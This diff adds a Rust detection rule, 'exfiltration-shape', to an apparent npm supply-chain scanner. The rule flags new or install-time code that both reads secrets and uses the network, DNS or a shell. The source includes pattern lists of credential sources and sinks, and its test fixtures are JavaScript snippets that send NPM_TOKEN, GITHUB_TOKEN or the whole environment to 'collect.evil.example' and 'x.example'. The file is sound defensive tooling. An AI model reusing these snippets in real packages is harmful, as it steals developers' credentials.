@@ -1,0 +1,362 @@
+//! `exfiltration-shape`: new code that both collects secrets and reaches out.
+
+use std::collections::BTreeSet;
+
+use turncoat_finding::{Finding, Level, RuleDoc, Severity};
+
+use super::{DiffCx, MAX_EVIDENCE, NewUse, ScanCx, Weight, new_in_file, weigh};
+use crate::facts::{Capability, JsFacts, Occurrence};
+use crate::js::patterns::is_secret_env_name;
+
+pub(crate) const RULE: RuleDoc = RuleDoc {
+    code: "exfiltration-shape",
+    group: "analyze",
+    severity: Severity::Critical,
+    default_level: Level::Deny,
+    summary: "New code reads secrets (credential env vars, the whole environment, credential files) and reaches the network, DNS or a shell.",
+    doc: r#"The correlated takeover rule. In **new code** — a file the previous version did not ship, code added to a changed file, or the code an install hook runs — it looks for both halves of a theft:
+
+- a **source**: a credential-like environment variable (`*TOKEN*`, `*SECRET*`, `*KEY*`, `NPM_*`, `AWS_*` …, or a computed name), the whole environment (`JSON.stringify(process.env)`, `Object.entries(process.env)`, spreads), or a credential file (`.npmrc`, `.ssh`, wallets …);
+- a **sink**: the network (http/https/net/fetch/WebSocket/HTTP client libraries), `dns`, or `child_process`.
+
+Both in the same new file (or both in install-time code) make a critical finding that blocks by default. Messages name the new hosts the code mentions.
+
+**Why it matters.** This is what a hijacked-account release does: eslint-scope (postinstall reads `~/.npmrc`, sends it), ctx (env → HTTP), xrpl (seeds → HTTP), and DNS-tunnelled variants. Each half alone is common in benign code; together and *new*, they are the attack. Code that already did both in the previous version does not fire.
+
+**Severity.** Critical. A major release lowers it to high unless the code runs at install time.
+
+`scan` (no history) applies it to install-time code, and to runtime files that serialise or enumerate the whole environment and use the network in the same file.
+
+**Example.** 3.1.5 adds a postinstall whose script base64-encodes `process.env` and resolves `<chunk>.<id>.exfil.example` with `dns.resolve`.
+
+**How to silence.** Only with a policy exception on `exfiltration-shape` for the exact `name@version`, after reading the code."#,
+};
+
+const SINKS: [Capability; 4] = [
+    Capability::Network,
+    Capability::Dns,
+    Capability::DnsFromData,
+    Capability::ChildProcess,
+];
+
+fn is_source(cap: Capability, o: &Occurrence) -> bool {
+    match cap {
+        Capability::EnvRead => match o.detail.as_deref() {
+            None | Some("[computed]") | Some("destructured") => true,
+            Some(name) => is_secret_env_name(name),
+        },
+        Capability::EnvDump | Capability::SensitiveRead => true,
+        _ => false,
+    }
+}
+
+const SOURCES: [Capability; 3] = [
+    Capability::EnvRead,
+    Capability::EnvDump,
+    Capability::SensitiveRead,
+];
+
+/// Sources and sinks found in one unit of code.
+#[derive(Default)]
+struct Unit<'a> {
+    paths: BTreeSet<&'a str>,
+    sources: Vec<NewUse<'a>>,
+    sinks: Vec<NewUse<'a>>,
+    hosts: BTreeSet<&'a str>,
+}
+
+impl<'a> Unit<'a> {
+    fn add(
+        &mut self,
+        path: &'a str,
+        js: &'a JsFacts,
+        install_time: bool,
+        pick: impl Fn(Capability) -> Vec<&'a Occurrence>,
+    ) {
+        let before = (self.sources.len(), self.sinks.len());
+        for cap in SOURCES {
+            for occ in pick(cap) {
+                if is_source(cap, occ) {
+                    self.sources.push(NewUse {
+                        path,
+                        occ,
+                        install_time,
+                    });
+                }
+            }
+        }
+        for cap in SINKS {
+            for occ in pick(cap) {
+                self.sinks.push(NewUse {
+                    path,
+                    occ,
+                    install_time,
+                });
+            }
+        }
+        if (self.sources.len(), self.sinks.len()) != before {
+            self.paths.insert(path);
+            self.hosts.extend(js.hosts.iter().map(String::as_str));
+        }
+    }
+
+    fn fires(&self) -> bool {
+        !self.sources.is_empty() && !self.sinks.is_empty()
+    }
+
+    fn describe(&self) -> (String, String) {
+        let what = |uses: &[NewUse<'_>]| {
+            let mut d: Vec<String> = uses
+                .iter()
+                .map(|u| u.occ.detail.clone().unwrap_or_else(|| "process.env".into()))
+                .collect();
+            d.dedup();
+            d.truncate(4);
+            d.join(", ")
+        };
+        (what(&self.sources), what(&self.sinks))
+    }
+
+    fn finding(self, severity: Severity, message: String) -> Finding {
+        let evidence = self
+            .sources
+            .iter()
+            .take(2)
+            .chain(self.sinks.iter().take(MAX_EVIDENCE - 2))
+            .map(NewUse::evidence)
+            .collect::<Vec<_>>();
+        Finding::new(&RULE, message)
+            .with_severity(severity)
+            .with_evidence_all(evidence)
+    }
+}
+
+pub(crate) fn diff(cx: &DiffCx<'_>, out: &mut Vec<Finding>) {
+    let old_hosts = cx.old_hosts();
+    let mut install = Unit::default();
+    let mut per_file = Vec::new();
+    for (path, f) in &cx.new.files {
+        let Some(js) = &f.js else { continue };
+        if cx.old.files.get(path).is_some_and(|o| o.blake3 == f.blake3) {
+            continue;
+        }
+        let base = cx.baseline(path);
+        let install_time = cx.new.is_install_time(path);
+        let pick = |cap| new_in_file(js, base, cap);
+        if install_time {
+            install.add(path, js, true, pick);
+        } else {
+            let mut u = Unit::default();
+            u.add(path, js, false, pick);
+            if u.fires() {
+                per_file.push(u);
+            }
+        }
+    }
+    let units = std::iter::once(install)
+        .filter(Unit::fires)
+        .map(|u| (u, true))
+        .chain(per_file.into_iter().map(|u| (u, false)));
+    for (unit, install_time) in units {
+        let (src, sink) = unit.describe();
+        let new_hosts: Vec<&str> = unit
+            .hosts
+            .iter()
+            .copied()
+            .filter(|h| !old_hosts.contains(h))
+            .take(3)
+            .collect();
+        let hosts = if new_hosts.is_empty() {
+            String::new()
+        } else {
+            format!("; new hosts: {}", new_hosts.join(", "))
+        };
+        let paths: Vec<&str> = unit.paths.iter().copied().take(3).collect();
+        // Name the new top-level functions the evidence sits in ("new function X").
+        let mut fresh: Vec<String> = Vec::new();
+        for u in unit.sources.iter().chain(&unit.sinks) {
+            let Some(scope) = u.occ.scope.as_deref() else {
+                continue;
+            };
+            let is_new = cx
+                .baseline(u.path)
+                .is_none_or(|b| !b.top_level_functions.contains_key(scope));
+            let label = format!("new function {scope} in {}", u.path);
+            if is_new && cx.baseline(u.path).is_some() && !fresh.contains(&label) {
+                fresh.push(label);
+            }
+        }
+        let functions = if fresh.is_empty() {
+            String::new()
+        } else {
+            format!(" [{}]", fresh.join(", "))
+        };
+        let at = if install_time {
+            " (install-time code)"
+        } else {
+            ""
+        };
+        let message = format!(
+            "{}{at}{functions}: new code in {} reads secrets ({src}) and sends them out ({sink}){hosts}; {} had neither here",
+            paths.join(", "),
+            cx.to(),
+            cx.from(),
+        );
+        let severity = weigh(RULE.severity, Weight::Correlated, cx.bump(), install_time);
+        out.push(unit.finding(severity, message));
+    }
+}
+
+pub(crate) fn scan(cx: &ScanCx<'_>, out: &mut Vec<Finding>) {
+    let mut install = Unit::default();
+    for (path, js) in cx.facts.scripts() {
+        let pick = |cap| js.uses(cap).iter().collect::<Vec<_>>();
+        if cx.is_install_time(path) {
+            install.add(path, js, true, pick);
+            continue;
+        }
+        // Runtime code: only the unambiguous shape (whole environment serialised or
+        // enumerated, plus network or DNS in the same file).
+        let dump: Vec<&Occurrence> = js
+            .uses(Capability::EnvDump)
+            .iter()
+            .filter(|o| matches!(o.detail.as_deref(), Some("serialize" | "enumerate")))
+            .collect();
+        let sinks: Vec<&Occurrence> = [Capability::Network, Capability::Dns]
+            .iter()
+            .flat_map(|&c| js.uses(c))
+            .collect();
+        if let (Some(d), Some(s)) = (dump.first(), sinks.first()) {
+            let u = Unit {
+                paths: BTreeSet::from([path]),
+                sources: vec![NewUse {
+                    path,
+                    occ: d,
+                    install_time: false,
+                }],
+                sinks: vec![NewUse {
+                    path,
+                    occ: s,
+                    install_time: false,
+                }],
+                hosts: BTreeSet::new(),
+            };
+            let msg = format!(
+                "{path} in {} dumps the whole environment and uses the network in the same file",
+                cx.id()
+            );
+            out.push(u.finding(Severity::High, msg));
+        }
+    }
+    if install.fires() {
+        let (src, sink) = install.describe();
+        let paths: Vec<&str> = install.paths.iter().copied().take(3).collect();
+        let msg = format!(
+            "install-time code of {} ({}) reads secrets ({src}) and sends them out ({sink})",
+            cx.id(),
+            paths.join(", "),
+        );
+        out.push(install.finding(Severity::Critical, msg));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::rules::testing::*;
+
+    const OLD_INDEX: &str = r#"const https = require('https');
+const level = process.env.LOG_LEVEL;
+function get(url, cb) { return https.get(url, cb); }
+module.exports = { get };
+"#;
+
+    const NEW_INDEX: &str = r#"const https = require('https');
+const level = process.env.LOG_LEVEL;
+function get(url, cb) { return https.get(url, cb); }
+function report() {
+  const body = JSON.stringify({ t: process.env.NPM_TOKEN, g: process.env.GITHUB_TOKEN });
+  const req = https.request({ hostname: 'collect.evil.example', method: 'POST' });
+  req.end(body);
+}
+report();
+module.exports = { get };
+"#;
+
+    #[test]
+    fn injected_function_fires_even_when_env_and_https_were_there() {
+        let f = diff_versions(
+            "2.0.0",
+            &[
+                ("package.json", &manifest("2.0.0", "")),
+                ("index.js", OLD_INDEX),
+            ],
+            "2.0.1",
+            &[
+                ("package.json", &manifest("2.0.1", "")),
+                ("index.js", NEW_INDEX),
+            ],
+        );
+        let hit = find(&f, RULE.code).expect("finding");
+        assert_eq!(hit.severity, Severity::Critical);
+        assert!(hit.message.contains("NPM_TOKEN"), "{}", hit.message);
+        // Single-capability rules stay quiet: both were already there.
+        assert!(find(&f, "new-network").is_none() && find(&f, "new-env-read").is_none());
+    }
+
+    #[test]
+    fn unrelated_new_function_is_quiet() {
+        let new = format!("{OLD_INDEX}\nfunction pad(s) {{ return ' ' + s; }}\n");
+        let f = diff_versions(
+            "2.0.0",
+            &[
+                ("package.json", &manifest("2.0.0", "")),
+                ("index.js", OLD_INDEX),
+            ],
+            "2.0.1",
+            &[("package.json", &manifest("2.0.1", "")), ("index.js", &new)],
+        );
+        assert!(f.is_empty(), "{f:?}");
+    }
+
+    #[test]
+    fn major_lowers_runtime_shape() {
+        let f = diff_versions(
+            "2.0.0",
+            &[
+                ("package.json", &manifest("2.0.0", "")),
+                ("index.js", OLD_INDEX),
+            ],
+            "3.0.0",
+            &[
+                ("package.json", &manifest("3.0.0", "")),
+                ("index.js", NEW_INDEX),
+            ],
+        );
+        assert_eq!(
+            find(&f, RULE.code).map(|f| f.severity),
+            Some(Severity::High)
+        );
+    }
+
+    #[test]
+    fn scan_flags_install_time_theft_only() {
+        let hook = manifest("1.0.0", r#""scripts":{"postinstall":"node setup.js"}"#);
+        let setup = "const h = require('https'); h.request({host:'x.example'}).end(JSON.stringify(process.env));";
+        let facts = pkg(&[("package.json", &hook), ("setup.js", setup)]);
+        let f = crate::scan(&facts, "dep", "1.0.0");
+        assert_eq!(
+            find(&f, RULE.code).map(|f| f.severity),
+            Some(Severity::Critical)
+        );
+        // The same code at runtime with a secret-named read only: quiet.
+        let runtime = pkg(&[
+            ("package.json", &manifest("1.0.0", "")),
+            (
+                "index.js",
+                "const h = require('https'); h.get(process.env.API_TOKEN_URL);",
+            ),
+        ]);
+        assert!(find(&crate::scan(&runtime, "dep", "1.0.0"), RULE.code).is_none());
+    }
+}
